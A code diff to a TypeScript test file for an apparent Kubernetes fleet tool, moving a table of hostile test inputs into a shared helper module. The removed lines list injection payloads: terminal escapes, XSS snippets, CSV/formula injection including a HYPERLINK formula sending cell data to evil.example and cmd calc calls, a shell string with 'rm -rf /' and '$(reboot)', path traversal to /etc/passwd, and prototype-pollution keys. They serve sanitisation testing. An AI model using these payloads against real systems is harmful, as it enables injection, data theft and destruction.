@@ -9,78 +9,27 @@ import type { KubeObject } from '../../src/core/kube/object.ts';
 import { tableQuery } from '../../src/core/query/table-query.ts';
 import type { SimCluster } from '../../src/core/sim/sim-cluster.ts';
 import { answerSchema } from '../../src/core/wire/answer-schema.ts';
+import { attacks, hostilePod, plantHostileObjects, unseen } from '../kit/hostile-objects.ts';
 import { readHtml } from '../kit/html-tags.ts';
 import { type RawApiServer, type RawReply, type RawRequest, startRawApiServer } from '../kit/raw-api-server.ts';
 import { runCli } from '../kit/run-cli.ts';
 import { type ServedFleet, serveSmallFleet } from '../kit/serve-small-fleet.ts';
 import { type SmallFleet, startSmallFleet } from '../kit/small-fleet.ts';
 
-/** What nobody may be made to read raw: terminal commands, what turns the writing direction, and what cannot be seen. */
-const unseen = /[^\P{Cc}\n]|[\u00ad\u061c\u180e\u200b\u200e\u200f\u2028-\u202e\u2060-\u2064\u2066-\u2069\ufeff\u{e0000}-\u{e007f}]/u;
-
-/** Texts as an attacker would have them in names, labels and messages. */
-const attacks = {
-  escape: '\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\',
-  c1: '\u009b31m\u0090q\u009c',
-  newline: 'line1\r\nline2\tx\u0000y',
-  script: '<script>alert(1)</script><img src=x onerror=alert(1)>',
-  attribute: `" onmouseover="alert(1)' onfocus='alert(1) x=\``,
-  close: '</td></table></title></style><svg onload=alert(1)>',
-  scheme: 'javascript:alert(1)',
-  formula: '=HYPERLINK("http://evil.example?x="&A1,"click")',
-  plus: "+SUM(1+1)*cmd|' /C calc'!A0",
-  minus: "-2+3+cmd|' /C calc'!A0",
-  at: "@SUM(1+9)*cmd|' /C calc'!A0",
-  tab: '\t=1+1',
-  comma: 'a,"b"\t=1+1',
-  bidi: 'safe\u202egpj.exe\u2066x\u2069\u061cz',
-  hidden: 'pay\u200bments\u2060\ufeff\u00ad\u{e0041}',
-  proto: '__proto__',
-  builtin: 'constructor',
-  surrogate: 'half \ud800 pair',
-  wide: '\u{1f9e8}漢字e\u0301\u0645\u0631\u062d\u0628\u0627',
-  yaml: '- &a !!js/function "x": {y: *a}\n---\n...',
-  dollar: '$(reboot) `id` ; rm -rf / #',
-  percent: '%00%2f..%2f../../etc/passwd',
-  long: 'x'.repeat(5000),
-} as const;
-
 let small: SmallFleet;
 let served: ServedFleet;
 let cluster: SimCluster;
 /** As the API server has them. */
-const created: KubeObject[] = [];
+let created: readonly KubeObject[] = [];
 
 function parsed<T>(text: string): T {
   return JSON.parse(text) as T;
 }
 
-/** An object built from JSON, so that `__proto__` is a key like any other. */
-function hostilePod(name: string, text: string): KubeObject {
-  const labels = `{"__proto__":"polluted","constructor":"polluted","app":${JSON.stringify(text)},"hostile":"yes"}`;
-  const annotations = `{"__proto__":"polluted","note":${JSON.stringify(text)},${JSON.stringify(text)}:"key"}`;
-  return parsed(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":${JSON.stringify(name)},"namespace":"hostile","labels":${labels},"annotations":${annotations}},
-    "spec":{"nodeName":${JSON.stringify(text)},"containers":[{"name":"c","image":${JSON.stringify(text)}}],"__proto__":{"polluted":true}},
-    "status":{"phase":${JSON.stringify(text)},"reason":${JSON.stringify(text)},"podIP":${JSON.stringify(text)},"containerStatuses":[{"ready":true,"restartCount":1e308,"state":{"waiting":{"reason":${JSON.stringify(text)}}}}]}}`);
-}
-
-function hostileEvent(name: string, text: string): KubeObject {
-  return parsed(`{"apiVersion":"v1","kind":"Event","metadata":{"name":${JSON.stringify(name)},"namespace":"hostile"},"type":${JSON.stringify(text)},"reason":${JSON.stringify(text)},
-    "message":${JSON.stringify(text)},"involvedObject":{"kind":${JSON.stringify(text)},"name":${JSON.stringify(text)},"namespace":"hostile"},"source":{"component":${JSON.stringify(text)}},
-    "firstTimestamp":"nonsense","lastTimestamp":"2026-01-01T00:00:00Z","count":-1}`);
-}
-
 beforeAll(async () => {
   small = await startSmallFleet({ clusters: 2, pods: 30 });
   cluster = small.world.clusters[0] as SimCluster;
-  for (const [what, text] of Object.entries(attacks)) {
-    const names = what === 'long' ? [what] : [what, text];
-    for (const name of names) {
-      const pod = cluster.objects.create('pods', hostilePod(name, text), Date.now());
-      const event = cluster.objects.create('events', hostileEvent(name, text), Date.now());
-      for (const entry of [pod, event]) if (entry !== 'exists') created.push(entry.object);
-    }
-  }
+  created = plantHostileObjects(cluster);
   served = await serveSmallFleet(small);
   await served.ready();
 }, 30_000);
